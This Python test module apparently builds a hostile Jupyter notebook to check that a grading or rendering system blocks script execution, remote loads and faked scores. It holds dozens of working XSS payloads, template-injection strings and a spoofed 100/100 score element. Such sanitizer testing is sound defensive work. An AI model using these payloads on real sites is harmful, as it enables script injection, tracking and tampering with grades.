"""What a hostile student might put where a page shows it: every way that we know to run or load.

``{js}`` stands for a script that leaves a grade, ``{home}`` for an address that takes notes.
"""

import struct
import zlib
from base64 import b64encode

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

# Each sets a grade on the window, the first chance that it gets.
JS = "(top.pwned=top.pwned||[]).push(1);top.alert(1)"

# Live in Chromium, some after a click or a movement of the mouse, as the tests verify.
LIVE = (
    """
<script>{js}</script>
<ScRiPt>{js}</sCrIpT>
<script src="{home}/a.js"></script>
<script type="module">{js}</script>
<img src=x onerror="{js}">
<img src=x onerror={js}//>
<IMG """
    + '"""'
    + """><SCRIPT>{js}</SCRIPT>">
<img src="{home}/track.png">
<img srcset="{home}/track.png 1x">
<picture><source srcset="{home}/p.png"><img></picture>
<svg onload="{js}"></svg>
<svg><script>{js}</script></svg>
<svg><image href="{home}/i.png"/></svg>
<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>
<svg><a href="javascript:{js}"><text x="0" y="20">go</text></a></svg>
<svg><foreignObject><img src=x onerror="{js}"></foreignObject></svg>
<svg><set attributeName="href" to="javascript:0" onbegin="{js}"/></svg>
<iframe srcdoc="<script>{js}</script>"></iframe>
<iframe src="javascript:{js}"></iframe>
<iframe src="{home}/frame"></iframe>
<object data="{home}/object"></object>
<embed src="{home}/embed">
<meta http-equiv="refresh" content="0;url={home}/refresh">
<link rel="stylesheet" href="{home}/style.css">
<link rel="preload" as="image" href="{home}/preload.png">
<style>@import url("{home}/import.css");</style>
<style>body{{background:url("{home}/body.png")}}</style>
<div style="width:9px;height:9px;background:url({home}/div.png)">x</div>
<style>@font-face{{font-family:f;src:url({home}/font)}}p{{font-family:f}}</style><p>x</p>
<div style="animation:a 1s" onanimationstart="{js}">x</div>
<a href="javascript:{js}">click</a>
<a href="&#106;&#97;vascript:{js}">click</a>
<a href=" java&#10;script:{js}">click</a>
<a href="&#1;javascript:{js}">click</a>
<details open ontoggle="{js}"><summary>s</summary>d</details>
<input autofocus onfocus="{js}">
<button onclick="{js}">press</button>
<form action="{home}/form"><button>press</button></form>
<form id=f action="{home}/form2"></form><button form=f>press</button>
<input type="image" src="{home}/input.png">
<video src="{home}/video"></video>
<video poster="{home}/poster.png"></video>
<audio src="{home}/audio" onerror="{js}"></audio>
<video><source onerror="{js}"></video>
<b onmouseover="{js}">over</b>
<table background="{home}/table.png"><tr><td>x</td></tr></table>
<a xlink:href="x" onclick="{js}">click</a>
<xmp><p title="</xmp><img src=x onerror='{js}'>">
<noscript><p title="</noscript><img src=x onerror='{js}'>">
<textarea><p title="</textarea><img src=x onerror='{js}'>">
<template><s></template><img src=x onerror="{js}">
<!--><img src=x onerror="{js}">-->
<img/src="x"/onerror="{js}">
<img src=x onerror
="{js}">
<body onload="{js}">
<div tabindex=1 onfocus="{js}" autofocus>x</div>
<select autofocus onfocus="{js}"></select>
<area href="javascript:{js}"><map name=m><area href="javascript:{js}"></map>
"""
)
LIVE = [line for line in LIVE.replace("onerror\n=", "onerror\x00NL=").split("\n") if line]
LIVE = [line.replace("\x00NL", "\n") for line in LIVE]

# Dead in today's Chromium, or dangerous only beside something else; just as unwelcome.
DEAD = [
    '<marquee onstart="{js}">m</marquee>',
    '<math><a href="javascript:{js}">click</a></math>',
    "<svg><style><img src=\"</style><img src=x onerror='{js}'>\">",
    '<math><mtext><table><mglyph><style><img src=x onerror="{js}"></style></mglyph></table>',
    '<base href="{home}/"><img src="relative.png">',
    '<div style="width: expression({js})">x</div>',
    '<div style="behavior: url({home}/x.htc)">x</div>',
    '<a href="data:text/html,<script>{js}</script>">click</a>',
    '<a href="vbscript:{js}">click</a>',
    '<a href="file:///etc/passwd">click</a>',
    '<a href="evil.html">another file of the submission</a>',
    '<a href="//127.0.0.1/x" ping="{home}/ping">click</a>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload={js}></svg>#x"/></svg>',
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "<scr\x00ipt>{js}</scr\x00ipt>",
    "<plaintext><script>{js}",
    "{{{{7*7}}}} {{% include '/etc/passwd' %}} ${{7*7}} <%= 7*7 %>",
    '<form id="getElementById"><input name="cookie"></form><img name="body">',
    '<img src="data:image/svg+xml,<svg onload={js}></svg>">',
    "<isindex action=javascript:{js} type=submit>",
    '<div class="bar score full" id="cell-1">Score: 100 / 100</div>',
    '<bdo dir="rtl">cba</bdo>',
]

MARKDOWN = [
    "[click](javascript:{js})",
    '![x](x" onerror="{js})',
    "![track]({home}/markdown.png)",
    "<javascript:{js}>",
    "[a]: javascript:{js}\n\n[a]",
    "```<img src=x onerror={js}>\n```",
    "$<img src=x onerror={js}>$",
    "$$\\href{{javascript:{js}}}{{x}} <script>{js}</script>$$",
    "\\begin{{x}}<img src=x onerror={js}>\\end{{x}}",
    "# <img src=x onerror={js}>",
    "|a|\n|-|\n|<img src=x onerror={js}>|",
    "![x](attachment:evil.svg)",
    "![x](attachment:none.png)",
]

SVG = [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><rect width="9" height="9"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>{js}</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<image xlink:href="{home}/svg.png" width="9" height="9"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "{home}/svg.css";</style></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9">'
    '<img xmlns="http://www.w3.org/1999/xhtml" src="{home}/foreign.png"/></foreignObject></svg>',
    '<?xml-stylesheet href="{home}/pi.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="{home}/use.svg#a"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url({home}/fill.svg#a)"/></svg>',
    '<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
    '"><script>{js}</script>',
]

TEXT = [
    "<script>{js}</script>",
    "\x1b]8;;javascript:{js}\x07link\x1b]8;;\x07",
    "\x1b[31m<img src=x onerror={js}>\x1b[0m",
    "\u202egnp.exe\u2066 \u200b",
    "\ud800 lone, \x00 nul, \x08 back",
    "</pre><img src=x onerror={js}>",
]


def filled(payloads, home, js=JS):
    """Payloads with their script and address."""
    return [payload.format(js=js, home=home) for payload in payloads]


def png(width, height):
    """A PNG whose header says this size, and which holds one byte."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * (width + 1) * min(height, 10)))
        + chunk(b"IEND", b"")
    )


def text64(data):
    return b64encode(data if isinstance(data, bytes) else data.encode()).decode()


def displays(home):
    """Outputs of every kind, each with something in it."""
    html = filled(LIVE + DEAD, home)
    svg, text = filled(SVG, home), filled(TEXT, home)
    data = [{"text/html": payload, "text/plain": "nothing"} for payload in html]
    data += [{"text/markdown": payload} for payload in filled(MARKDOWN + LIVE, home)]
    data += [{"image/svg+xml": payload} for payload in svg]
    data += [{"image/png": payload} for payload in svg + text]
    data += [
        {kind: text64(png(50_000, 50_000))} for kind in ("image/png", "image/jpeg", "image/gif")
    ]
    data += [{"text/plain": payload, "text/latex": payload} for payload in text + html]
    data += [
        {"application/javascript": JS, "text/plain": "js"},
        {"text/vnd.mermaid": html[0]},
        {"application/json": {"a": html[0]}},
        {"application/vnd.jupyter.widget-view+json": {"model_id": html[0]}},
        {"application/pdf": text64("%PDF")},
    ]
    evil = {
        "text/html": {"isolated": True},
        "image/png": {
            "width": f"1 onload={JS}",
            "height": f'"><script>{JS}</script>',
            "alt": html[0],
        },
        "filenames": {"image/png": '" onerror="' + JS},
    }
    outputs = [new_output("display_data", one, metadata=evil) for one in data]
    picture = {"image/png": text64(png(9, 9))}
    outputs += [new_output("execute_result", picture, metadata=evil, execution_count=1)]
    outputs += [
        new_output("stream", name=name, text=t) for name in ("stdout", "stderr") for t in text
    ]
    outputs += [new_output("error", ename=t, evalue=t, traceback=[t]) for t in text + html[:3]]
    return outputs


def hostile_notebook(home):
    """A notebook that is nothing but attempts.

    Parameters
    ----------
    home : str
        Address that must never be asked for anything.

    Returns
    -------
    NotebookNode
    """
    html = filled(LIVE + DEAD, home)
    tags = {"tags": [f'"><script>{JS}</script>'], "alt": html[0]}
    cells = [new_markdown_cell(source) for source in filled(MARKDOWN, home) + html]
    cells[-1].attachments = {"evil.svg": {"image/svg+xml": text64(filled(SVG, home)[1])}}
    cells += [new_raw_cell(source, metadata={"raw_mimetype": "text/html"}) for source in html[:5]]
    cells += [new_code_cell(source, metadata=tags) for source in filled(TEXT, home) + html[:5]]
    outputs = displays(home)
    # So few a cell that none is left out for their number.
    for start in range(0, len(outputs), 20):
        cells.append(new_code_cell("0", outputs=outputs[start : start + 20], metadata=tags))
    notebook = new_notebook(cells=cells)
    for number, cell in enumerate(notebook.cells):
        cell.id = f"{number}"
    notebook.metadata = nbformat.from_dict(
        {
            "title": html[0],
            "language_info": {"name": html[0], "pygments_lexer": html[0]},
            "widgets": {
                "application/vnd.jupyter.widget-state+json": {"state": html[0], "version_major": 2}
            },
        }
    )
    return notebook
